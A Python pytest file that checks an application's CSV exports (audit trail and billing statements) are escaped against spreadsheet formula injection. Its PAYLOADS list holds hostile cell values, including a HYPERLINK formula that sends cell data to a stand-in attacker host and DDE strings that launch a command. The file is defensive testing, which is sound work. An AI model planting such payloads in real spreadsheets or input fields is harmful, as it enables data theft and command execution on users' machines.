"""CSV exports no spreadsheet can run: the audit trail and the statements, as attackers fill them."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from hub.auth.gate import Denied, Gate
from hub.billing import statements
from hub.billing.prices import book
from hub.csv_cells import safe_cell
from hub.db.models import MeterEvent, Scenario, Tenant
from hub.demo import world
from hub.settings import Prices
from hub.web import admin_views

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: the first visible character, in any width, is a
    formula trigger, and the cell is not marked as text with a leading apostrophe."""
    if cell.startswith("'"):
        return False
    for ch in unicodedata.normalize("NFKC", cell):
        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"):
            continue
        return ch in "=+-@"
    return False


@pytest.mark.parametrize("payload", PAYLOADS)
def test_when_a_text_cell_would_start_a_formula_then_it_is_marked_as_text(payload):
    cell = safe_cell(payload)
    assert cell == "'" + payload and not runs_as_formula(cell)


@pytest.mark.parametrize(
    "value",
    ["张三", "login.lockout", "a=b", "x-1", "user@example.com", "", "'quoted", 42, -5, None],
)
def test_when_a_cell_is_harmless_or_a_number_then_it_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_when_an_attacker_logs_in_with_formula_usernames_then_the_audit_csv_runs_none(db):
    """Anyone who reaches the login form writes their username into the trail's actor column."""
    gate = Gate(db, max_failures=100)
    for payload in PAYLOADS:
        with pytest.raises(Denied):
            gate.login(payload, payload, payload)
    with db.session() as s:
        text = admin_views.export(s, {}, "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > len(PAYLOADS)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if runs_as_formula(c)] == []
    actors = [row[2] for row in rows[1:]]
    assert any(a.lstrip("'").strip().lower().startswith("=hyperlink") for a in actors)


def test_when_a_scenario_is_named_like_a_formula_then_the_statement_csv_runs_none(shuyu_home, db):
    world.build(shuyu_home, db, rows=50)
    with db.session() as s:
        tenant = s.scalars(select(Tenant).where(Tenant.name == world.TENANTS[0]["name"])).one()
        scenario = s.scalars(select(Scenario).where(Scenario.tenant_id == tenant.id)).first()
        scenario.name = PAYLOADS[0]
        s.add(MeterEvent(tenant_id=tenant.id, scenario_id=scenario.id, actor="alice",
                         kind="masked_rows", quantity=20_000, details={},
                         at=datetime(2026, 11, 15, tzinfo=UTC)))  # fmt: skip
    with db.session() as s:
        tenant = s.get(Tenant, tenant.id)
        st = statements.statement(s, tenant, "2026-11", book(Prices()))
    rows = list(csv.DictReader(io.StringIO(statements.to_csv(st))))
    assert [r["scenario"] for r in rows[:-1]] == ["'" + PAYLOADS[0]]
    assert not [c for r in rows for c in r.values() if runs_as_formula(c)]
